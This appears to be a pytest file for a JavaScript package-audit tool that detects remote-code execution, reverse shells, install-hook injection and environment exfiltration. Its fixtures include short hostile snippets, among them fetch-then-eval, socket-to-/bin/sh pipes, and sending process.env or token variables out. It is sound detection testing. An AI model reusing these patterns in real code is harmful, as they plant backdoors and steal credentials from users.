"""What comes from outside and is run, and where the environment goes: each beside silent twins."""

from __future__ import annotations

import pytest
from support.packages import analysed, contents

from audit.analysis.mentions.passed import INSTALLS, NEIGHBOUR, SENT, WRITTEN
from audit.capabilities import mentions
from audit.model.mention import SHELL, Mentioned


def told(code: str, kind: Mentioned = Mentioned.PASSED) -> set[str]:
    found = mentions(analysed(contents({"index.js": "const fs = require('fs');" + code})))
    return {each.text for each in found if each.mentioned is kind}


FIRING = {
    "an answer is started": ("get(API + '/t').then((t) => exec(t))", SENT),
    "an answer is evaluated": ("fetch(a).then(r => r.text()).then(t => t && eval(t))", SENT),
    "an answer is made a function": (
        "const t = await (await fetch(a)).text(); new Function('require', t)(require)",
        SENT,
    ),
    "as minified": ('fetch(a).then(e=>e.text()).then(e=>{new Function("r",e)(require)})', SENT),
    "a message is started": ("s.on('message', (m) => spawn('sh', ['-c', m]))", SENT),
    "a page's message": ("ws.onmessage = (m) => eval(m.data)", SENT),
    "what a request asks": ("f = (q) => execSync(new URL(q.url, b).searchParams.get('c'))", SENT),
    "a header": ("f = (q, a) => a.end(execSync(q.headers['x-k']))", SENT),
    "a body": ("app.post('/k', (req, res) => res.end(vm.runInNewContext(req.body.k)))", SENT),
    "written and started": (
        "fs.writeFileSync(f, t); spawn(process.execPath, [f], { detached: true })",
        WRITTEN,
    ),
    "written and started by a name of a minifier": (
        "var n=p.join(t,'k');fs.writeFileSync(n,e),a(process.execPath,[n],{detached:!0})",
        WRITTEN,
    ),
    "a shell by a name of a minifier": (
        "var s=require('net').connect(1,h),c=a('/bin/sh',[]);s.pipe(c.stdin)",
        SHELL,
    ),
    "written and loaded": ("fs.writeFileSync(f, t); require(f)", WRITTEN),
    "written and executed": (
        "await fs.promises.writeFile(file, t); child_process.execFile(file)",
        WRITTEN,
    ),
    "another package's entry": (
        "const t = require.resolve('express'); fs.appendFileSync(t, ';x')",
        NEIGHBOUR,
    ),
    "a shell on a socket": (
        "const s = net.connect(p, h), sh = spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s)",
        SHELL,
    ),
    "a script at install": ("pkg.scripts.postinstall = 'node a.cjs'; save(pkg)", INSTALLS),
    "a script by its name": ("pkg.scripts['preinstall'] ??= 'node a.cjs'; save(pkg)", INSTALLS),
}
SILENT = {
    "a script that is asked for": "if (pkg.scripts.postinstall === 'a') stop(); run(pkg.scripts.install)",
    "a script of another kind": "pkg.scripts.prepare = 'husky'",
    "a path that was found": "which('git').then((git) => spawn(git, ['status']))",
    "an expression is matched": "get(a).then((t) => /x(.*)/.exec(t))",
    "an expression by name": "fetch(a).then((t) => pattern.exec(t))",
    "output of a program": "child.stdout.on('data', (d) => lines.push(d)); spawn('git', args)",
    "an answer is read": "fetch(a).then((r) => r.json()).then((t) => render(t))",
    "an answer beside a program": "fetch(a).then((t) => keep(t)); exec('git status')",
    "the name is another's": "s.on('message', function (e) { log(e) }); const f = function (e) { return eval(e) }",
    "an editor opens it": "fs.writeFileSync(file, t); spawn(editor, [file])",
    "written elsewhere": "fs.writeFileSync(out, t); require(template)",
    "resolved and read": "const t = require.resolve('express'); fs.readFileSync(t)",
    "a constant module": "fs.writeFileSync(f, t); require('./f')",
    "a pipe into a formatter": "const p = spawn('prettier', []); net.isIP(h); file.pipe(p.stdin)",
    "a formatter by a name of a minifier": "net.isIP(h); var p=a('prettier',[]); f.pipe(p.stdin)",
    "a shell that no connection feeds": "var p=a('/bin/sh',[]); f.pipe(p.stdin)",
    "another file is started": "fs.writeFileSync(f,t),a(process.execPath,[g])",
    "a comment": "// get(a).then((t) => exec(t))",
}


@pytest.mark.parametrize(("code", "what"), FIRING.values(), ids=FIRING)
def test_what_comes_from_outside_is_run(code: str, what: str) -> None:
    assert told(code) == {what}


@pytest.mark.parametrize("code", SILENT.values(), ids=SILENT)
def test_what_comes_from_inside_is_none(code: str) -> None:
    assert told(code) == set()


SENT_ENVIRONMENT = {
    "all": "client.report(process.env)",
    "a copy": "client.send({ ...process.env })",
    "by name": "for (const k in process.env) if (/token|secret/i.test(k)) seen[k] = process.env[k]",
    "filtered": "send(Object.keys(process.env).filter((k) => /PASSW|TOKEN/.test(k)))",
}
KEPT_ENVIRONMENT = {
    "one variable": "client.report({ mode: process.env.NODE_ENV })",
    "for a program": "spawn(c, { env: { ...process.env, A: '1' } })",
    "hidden": "for (const k in process.env) if (/token|secret/i.test(k)) text = mask(text, process.env[k])",
    "without secrets": "Object.keys(process.env).filter((k) => !/token|secret/i.test(k)).forEach(show)",
}


@pytest.mark.parametrize("code", SENT_ENVIRONMENT.values(), ids=SENT_ENVIRONMENT)
def test_the_environment_goes_elsewhere(code: str) -> None:
    assert told(code, Mentioned.ENVIRONMENT) == {"process.env"}


@pytest.mark.parametrize("code", KEPT_ENVIRONMENT.values(), ids=KEPT_ENVIRONMENT)
def test_the_environment_stays(code: str) -> None:
    assert told(code, Mentioned.ENVIRONMENT) == set()
